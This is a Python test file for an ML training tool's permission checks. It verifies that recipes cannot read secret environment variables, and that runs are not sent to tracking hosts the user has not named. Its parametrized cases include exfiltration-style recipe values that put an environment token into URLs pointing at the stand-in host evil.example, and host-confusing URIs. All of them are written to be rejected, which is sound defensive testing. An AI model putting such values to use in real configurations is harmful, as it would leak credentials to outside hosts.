"""Permissions: what a recipe may read of the environment, and to which hosts its runs may be sent."""

import socket
import threading

import pytest

import dlx
from dlx.errors import RecipeError, UsageError
from dlx.permissions import (
    ALLOWED_VARIABLES,
    CHOSEN_URI,
    TRACKING_HOSTS,
    TRACKING_URI,
    allow_variables,
    is_host_named,
    is_readable,
    name_host,
    refuse_tracker,
    remote_host,
)
from dlx.recipe.load import with_environment
from dlx.tracking.store import mlflow_client, storable_uri, tracker_uri

RECIPE = "task: classification\ndata: {source: {sklearn: iris}}\nmodel: linear\ntrain: {epochs: 1, figures: false}\n"


@pytest.fixture(autouse=True)
def _clean(monkeypatch):
    for name in (ALLOWED_VARIABLES, TRACKING_HOSTS, TRACKING_URI, CHOSEN_URI):
        monkeypatch.setenv(name, "")


@pytest.fixture
def codes(tmp_path):
    def found(text):
        (tmp_path / "r.yaml").write_text(RECIPE + text)
        return [diagnostic.code for diagnostic in dlx.validate(tmp_path / "r.yaml")]

    return found


def test_a_recipe_reads_few_variables_unless_more_are_allowed(codes, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hidden")
    monkeypatch.setenv("DLX_DATA", "here")
    secret = 'tracking: {tags: {a: "${env:AWS_SECRET_ACCESS_KEY}"}}'
    assert codes('tracking: {tags: {a: "${env:DLX_DATA}", b: "${env:HOME,x}", c: "${env:USER,x}"}}') == []
    assert codes(secret) == ["DLX215"]
    assert codes('tracking: {tags: {a: "${env:AWS_ABSENT,default}"}}') == ["DLX215"]  # whether it is set is no matter
    assert not is_readable("XDLX_A") and not is_readable("HOMEDRIVE")
    allow_variables(["AWS_SECRET_ACCESS_KEY"])
    assert codes(secret) == []


def test_a_stored_recipe_reads_no_more_than_one_that_is_written(monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hidden")
    monkeypatch.setenv("DLX_DATA", "here")
    assert with_environment({"path": "${env:DLX_DATA}/x"}) == {"path": "here/x"}
    with pytest.raises(UsageError, match="--env AWS_SECRET_ACCESS_KEY"):
        with_environment({"path": "${env:AWS_SECRET_ACCESS_KEY}/x"})


@pytest.mark.parametrize(
    "text",
    [
        'tracking: {uri: "http://evil.example/${env:DLX_TOKEN}"}',
        'tracking: {uri: "${env:DLX_TOKEN}"}',
        'vars: {a: "${env:DLX_TOKEN}"}\ntracking: {uri: "http://evil.example/${vars.a}"}',
        'tracking: {tags: {a: "see https://evil.example/?q=${env:DLX_TOKEN}"}}',
    ],
)
def test_no_address_holds_what_came_from_the_environment(codes, monkeypatch, text):
    monkeypatch.setenv("DLX_TOKEN", "correct-horse")
    assert codes(text) == ["DLX216"]


def test_no_name_on_a_hub_holds_what_came_from_the_environment(tmp_path, monkeypatch):
    pytest.importorskip("datasets")
    monkeypatch.setenv("DLX_TOKEN", "correct-horse")
    text = RECIPE.replace("{sklearn: iris}", '{hf: "evil/${env:DLX_TOKEN}"}')
    (tmp_path / "r.yaml").write_text(text)
    with pytest.raises(RecipeError) as error:
        dlx.load(tmp_path / "r.yaml")
    assert [d.code for d in error.value.diagnostics] == ["DLX216"]
    assert "correct-horse" not in str(error.value)


@pytest.mark.parametrize(
    ("uri", "host"),
    [
        ("sqlite:////tmp/a.db", ""),
        ("mlruns", ""),
        ("file:///tmp/mlruns", ""),
        ("http://localhost:5000", ""),
        ("http://127.0.0.1:5000", ""),
        ("http://[::1]:5000", ""),
        ("http://evil.example:80/x", "evil.example"),
        ("HTTP://Evil.Example.", "evil.example"),
        ("http://localhost@evil.example", "evil.example"),
        ("file://evil.example/share", "evil.example"),
        ("postgresql+psycopg2://me:pw@db.example/x", "db.example"),
        ("databricks", ""),
        ("databricks-uc://profile", "profile"),
        ("plugin:thing", "plugin:"),
    ],
)
def test_the_host_of_a_tracking_uri(uri, host):
    assert remote_host(uri) == host


@pytest.mark.parametrize("uri", ["http://127.0.0.1\\@evil.example", "http://evil.example /", "http://a\nb"])
def test_an_address_that_may_be_read_in_two_ways_is_refused(uri):
    assert "is not used" in refuse_tracker(uri)


def test_a_run_is_sent_only_to_a_host_that_its_user_names(monkeypatch):
    uri = "https://me:secret@tracker.example/mlflow"
    stored, note = storable_uri(uri)
    assert stored.startswith("sqlite:///")
    assert "tracker.example" in note and "secret" not in note
    with pytest.raises(UsageError, match="--tracking-uri"):
        tracker_uri(uri)  # as it would stand in the folder of a stranger's run
    for name, value in ((TRACKING_HOSTS, "tracker.example"), (TRACKING_URI, "https://tracker.example/other")):
        monkeypatch.setenv(name, value)
        assert storable_uri(uri) == (uri, None) and tracker_uri(uri) == uri
        monkeypatch.setenv(name, "")
    assert not is_host_named(uri)
    name_host(uri)
    assert is_host_named(uri) and not is_host_named("https://tracker.example.evil.example")


def test_a_stored_address_reads_nothing_but_the_address_of_the_tracker(monkeypatch):
    monkeypatch.setenv(TRACKING_URI, "http://tracker.example")
    monkeypatch.setenv("SECRET", "hidden")
    assert tracker_uri("${env:MLFLOW_TRACKING_URI}") == "http://tracker.example"
    assert tracker_uri("sqlite:///${env:SECRET}") == "sqlite:///${env:SECRET}"


def test_nothing_reaches_a_tracker_that_only_the_recipe_names(tmp_path, monkeypatch):
    """Train for real, with a listener in the place of the host, whose name resolves to this computer."""
    monkeypatch.chdir(tmp_path)
    listener = socket.create_server(("127.0.0.1", 0))
    calls = []
    threading.Thread(target=lambda: calls.append(listener.accept()), daemon=True).start()
    lookup = socket.getaddrinfo
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *a, **k: lookup("127.0.0.1", *a, **k))
    uri = f"http://tracker.example:{listener.getsockname()[1]}"
    (tmp_path / "r.yaml").write_text(RECIPE + f"tracking: {{uri: '{uri}'}}")
    run = dlx.train(tmp_path / "r.yaml")
    assert [note for note in run.notes if f"--tracking-uri {uri}" in note]
    assert not calls and (tmp_path / "mlflow.db").exists()
    monkeypatch.setenv(CHOSEN_URI, uri)

    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "1")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    with pytest.raises(Exception, match=r".+"):  # it does not answer, but it is called
        mlflow_client(tracker_uri(uri)).search_experiments()
    assert calls


@pytest.mark.parametrize("answer", [True, False])
def test_in_a_terminal_it_is_asked_whether_runs_may_be_sent(tmp_path, monkeypatch, capsys, answer):
    from dlx.commands import _options

    (tmp_path / "r.yaml").write_text(RECIPE + "tracking: {uri: 'https://tracker.example'}")
    loaded = dlx.load(tmp_path / "r.yaml")
    _options.ask_for_tracker(loaded)  # nobody can answer: nothing is asked
    assert capsys.readouterr().err == "" and not is_host_named("https://tracker.example")
    for stream in ("stdin", "stderr"):
        monkeypatch.setattr(f"sys.{stream}.isatty", lambda: True)
    monkeypatch.setattr(_options.typer, "confirm", lambda *_, **__: answer)
    _options.ask_for_tracker(loaded)
    assert "tracker.example is not used" in capsys.readouterr().err
    assert is_host_named("https://tracker.example") is answer
